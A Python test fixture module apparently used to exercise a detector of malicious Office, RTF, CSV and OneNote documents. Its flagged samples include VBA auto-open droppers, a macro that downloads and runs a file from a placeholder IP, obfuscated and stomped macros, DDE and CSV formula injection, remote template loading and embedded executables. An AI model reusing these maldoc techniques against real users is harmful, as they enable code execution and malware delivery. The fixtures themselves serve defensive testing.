"""Documents with programs in them, and those that only look so. Commands name addresses that nobody has."""

import importlib.util
import io
import struct
import zipfile
import zlib
from pathlib import Path


def _load(name):
    spec = importlib.util.spec_from_file_location(f"made_{name}", Path(__file__).parents[1] / "_made" / f"{name}.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


C = _load("compound")
P = _load("programs")

DROPPER = """Sub AutoOpen()
    Dim s
    Set s = CreateObject("WScript.Shell")
    s.Run "powershell -w hidden -c example.invalid", 0
End Sub
"""
SPLIT = """Private Sub Document_Open()
    run_it
End Sub
Sub run_it()
    Dim a As String
    a = "WS" & "cript.S" & Chr(104) & "ell"
    CreateObject(a).Exec Chr$(99) & "alc"
    GetObject(StrReverse(":stmgmniw")).Get("Win32_Process")
End Sub
"""
FETCH = """Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr) As Long
Private Sub Workbook_Open()
    URLDownloadToFile 0, "http://198.51.100.7/a.bin", Environ("TEMP") & "\\a.exe", 0, 0
    Shell Environ("TEMP") & "\\a.exe"
End Sub
"""
HONEST = """Sub FormatReport()
    ' Shell and CreateObject("WScript.Shell") are not used here
    Dim sheet As Worksheet
    For Each sheet In ActiveWorkbook.Worksheets
        sheet.Columns.AutoFit
    Next sheet
    MsgBox "Done, don't forget to save"
End Sub
"""
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def doc(modules, **more):
    return C.compound({"WordDocument": b"\xec\xa5\xc1\0" + bytes(700), "1Table": bytes(300), **C.project(modules, root="Macros/VBA", **more)})


def office(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def relation(kind, target):
    return f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def rtf_object(name, content, extra=b"\\objupdate"):
    raw = struct.pack("<II", 0x501, 2) + struct.pack("<I", len(name) + 1) + name + b"\0" + struct.pack("<III", 0, 0, len(content)) + content
    digits = b"\n".join(raw.hex().encode()[at : at + 60] for at in range(0, len(raw) * 2, 60))
    return b"{\\rtf1{\\object\\objemb" + extra + b"{\\*\\objdata " + digits + b"}}}"


def flags():
    yield "auto_macro--word", {"invoice.doc": doc({"ThisDocument": DROPPER})}
    yield "auto_macro--put-together", {"invoice.doc": doc({"ThisDocument": SPLIT, "Module1": HONEST})}
    sheet = office({"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": C.compound(C.project({"ThisWorkbook": FETCH}))})
    yield "auto_macro--excel", {"artifact:report.xlsm": sheet}
    project = zlib.compress(C.compound(C.project({"Module1": "Sub Auto_Open()\nShell \"cmd /c calc\"\nEnd Sub\n"})))
    storage = struct.pack("<HHII", 0x10, 0x1011, len(project) + 4, 5000) + project
    yield "auto_macro--powerpoint", {"talk.ppt": C.compound({"PowerPoint Document": bytes(40) + storage, "Current User": bytes(40)})}
    mime = b"ActiveMime" + bytes(40) + zlib.compress(C.compound(C.project({"ThisDocument": DROPPER})))
    yield "auto_macro--active-mime", {"editdata.mso": mime}
    damaged = bytearray(doc({"ThisDocument": DROPPER}))
    damaged[48:52] = b"\xf0\xff\xff\x0f"
    yield "auto_macro--damaged-tables", {"invoice.doc": bytes(damaged)}
    yield "macro_call--by-hand", {"tool.doc": doc({"Module1": 'Sub RunTool()\nShell "notepad.exe"\nEnd Sub\n'})}
    yield "macro_trigger--only", {"tool.doc": doc({"ThisDocument": 'Sub AutoOpen()\nMsgBox "Hello"\nEnd Sub\n'})}
    compiled = b"\x01\x16" + bytes(60) + b"powershell -nop http://192.0.2.1/a" + bytes(80)
    yield "stomped--other-source", {"a.doc": doc({"ThisDocument": HONEST}, code=compiled)}
    yield "stomped--no-source", {"a.doc": doc({"ThisDocument": ""}, code=compiled[:30] + bytes(90), stomped={"ThisDocument"})}
    yield "excel4_macros--exec", {"a.xls": C.compound({"Workbook": C.workbook(function=110, hidden=2, auto=True)})}
    yield "excel4_macros--hidden-start", {"a.xls": C.compound({"Workbook": C.workbook(hidden=2, auto=True)})}
    cell = '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><c><f>EXEC("cmd /c calc")</f></c></xm:macrosheet>'
    yield "excel4_macros--newer-workbook", {"artifact:a.xlsm": office({"xl/macrosheets/sheet1.xml": cell})}
    yield "encrypted--workbook", {"a.xls": C.compound({"Workbook": C.workbook(encrypted=True)})}
    yield "encrypted--document", {"a.docx": C.compound({"EncryptedPackage": bytes(64), "EncryptionInfo": bytes(64)})}
    yield "remote_template--word", {"artifact:a.docx": office({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://192.0.2.4/t.dotm")})}
    yield "remote_content--object", {"artifact:a.docx": office({"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://198.51.100.2/x.html!x-usc:http://198.51.100.2/x.html")})}
    yield "remote_content--share", {"artifact:a.docx": office({"word/_rels/document.xml.rels": relation("image", "file://203.0.113.5/share/a.png")})}
    field = '<w:document xmlns:w="w"><w:instrText xml:space="preserve"> DDE</w:instrText><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"</w:instrText></w:document>'
    yield "dde--split-field", {"artifact:a.docx": office({"word/document.xml": field})}
    link = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "dde--workbook", {"artifact:a.xlsx": office({"xl/externalLinks/externalLink1.xml": link})}
    yield "dde--table", {"export.csv": b"name,amount\n=cmd|'/c calc'!A0,3\n"}
    yield "dde--old-document", {"a.doc": C.compound({"WordDocument": bytes(600) + b'\x13 DDEAUTO "cmd.exe" "/c calc" \x14' + bytes(90)})}
    yield "embedded_program--in-an-old-document", {"a.doc": C.compound({"ObjectPool/_1/\x01Ole10Native": C.package_object("invoice.pdf.exe", P.pe())})}
    script = C.package_object("open me.vbs", b'CreateObject("WScript.Shell").Run "calc"')
    yield "embedded_program--in-a-newer-one", {"artifact:a.docx": office({"word/embeddings/oleObject1.bin": C.compound({"\x01Ole10Native": script})})}
    yield "equation--rtf", {"a.rtf": rtf_object(b"Equation.3", b"\x1c\0" + bytes(200))}
    yield "equation--document", {"a.doc": C.compound({"ObjectPool/_1/Equation Native": bytes(100)})}
    yield "embedded_program--rtf", {"a.rtf": rtf_object(b"Package", C.package_object("a.js", b"new ActiveXObject('WScript.Shell')")[4:])}
    yield "auto_macro--rtf-with-a-document", {"a.rtf": rtf_object(b"Word.Document.8", doc({"ThisDocument": DROPPER}))}
    moniker = bytes(24) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + bytes(8) + "http://192.0.2.9/a.hta".encode("utf-16-le")
    yield "remote_content--rtf-link", {"a.rtf": rtf_object(b"OLE2Link", C.compound({"\x01Ole": moniker}))}
    yield "remote_template--rtf", {"a.rtf": b"{\\rtf1\\ansi{\\*\\template http://192.0.2.9/a.dotm}Hello}"}
    yield "dde--rtf", {"a.rtf": b'{\\rtf1{\\field{\\*\\fldinst {\\rtlch DDE}{\\b AUTO c:\\\\cmd.exe "/k calc"}}}}'}
    note = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + bytes(2000)
    hta = b'<html><script language="vbscript">CreateObject("WScript.Shell").Run "calc"</script></html>'
    stored = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(hta), 0, 0) + hta
    yield "embedded_program--onenote", {"a.one": note + stored}
    yield "malformed--not-a-compound-file", {"a.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(700)}


def passes():
    yield "document-without-macros", {"a.doc": C.compound({"WordDocument": bytes(700), "1Table": bytes(5000)})}
    yield "macro-by-hand", {"a.doc": doc({"ThisDocument": "", "Module1": HONEST})}
    empty = {"ThisWorkbook": "Option Explicit\n", "Sheet1": ""}
    yield "workbook-with-empty-modules", {"artifact:a.xlsm": office({"xl/vbaProject.bin": C.compound(C.project(empty))})}
    yield "links-of-a-document", {"artifact:a.docx": office({"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.com/a?b=c")})}
    yield "template-of-the-author", {"artifact:a.docx": office({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Users\\me\\Templates\\Normal.dotm")})}
    page = '<w:document xmlns:w="w"><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:t>DDE is explained here</w:t></w:document>'
    yield "page-numbers", {"artifact:a.docx": office({"word/document.xml": page})}
    yield "workbook", {"artifact:a.xlsx": office({"xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": "<worksheet><f>SUM(A1:A3)</f></worksheet>"})}
    yield "table", {"export.csv": b"name,amount\nAda,=1+2\n-5,+3\nmail me,cmd line | pipe!\n"}
    yield "picture-in-a-document", {"a.doc": C.compound({"ObjectPool/_1/\x01Ole10Native": C.package_object("photo.png", b"\x89PNG\r\n\x1a\n" + bytes(300))})}
    yield "rich-text", {"a.rtf": b"{\\rtf1\\ansi{\\fonttbl\\f0 Arial;}\\f0 Plain words, {\\field{\\*\\fldinst HYPERLINK \"https://example.com\"}}}"}
    yield "xml-of-something-else", {"word/notes.xml": b"<notes>DDEAUTO and macros are words here</notes>"}
